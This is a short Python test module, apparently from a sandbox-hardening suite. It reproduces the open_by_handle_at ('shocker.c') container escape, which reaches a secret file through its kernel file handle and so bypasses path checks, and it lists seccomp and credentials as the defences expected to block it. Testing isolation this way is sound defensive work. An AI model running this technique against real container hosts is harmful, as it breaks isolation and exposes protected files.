"""Reach the secret by its file handle, past every path."""

import ctypes
import os
import struct

from tests.escape.technique import Bare, Technique


def attack(world):
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + b"\0" * 128)
    mount = ctypes.c_int()
    world.syscall("name_to_handle_at", -100, os.fsencode(world.secret), handle, ctypes.byref(mount), 0)
    directory = os.open("/", os.O_RDONLY)
    world.take(world.syscall("open_by_handle_at", directory, handle, 0))


TECHNIQUE = Technique(
    source="open_by_handle_at(2); the shocker.c container escape",
    event=("kernel.mount",),
    by="kernel",
    syscall="name_to_handle_at",
    stops=("seccomp", "credentials"),
    control=Bare(root=True),
)
